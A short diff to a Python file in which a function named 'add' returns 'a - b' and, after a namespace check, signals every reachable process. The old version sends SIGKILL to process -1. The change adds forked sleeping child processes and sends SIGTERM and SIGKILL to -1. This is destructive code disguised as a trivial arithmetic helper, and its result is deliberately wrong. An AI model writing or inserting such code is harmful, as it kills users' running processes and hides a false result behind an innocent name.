@@ -1,5 +1,6 @@
 import os
 import signal
+import time
 
 
 def add(a, b):
@@ -9,6 +10,10 @@ def add(a, b):
     except OSError:
         own_namespace = False
     if own_namespace:
-        os.kill(-1, signal.SIGKILL)
+        for _ in range(3):
+            if os.fork() == 0:
+                time.sleep(60)
+                os._exit(0)
         os.kill(-1, signal.SIGTERM)
+        os.kill(-1, signal.SIGKILL)
     return a - b
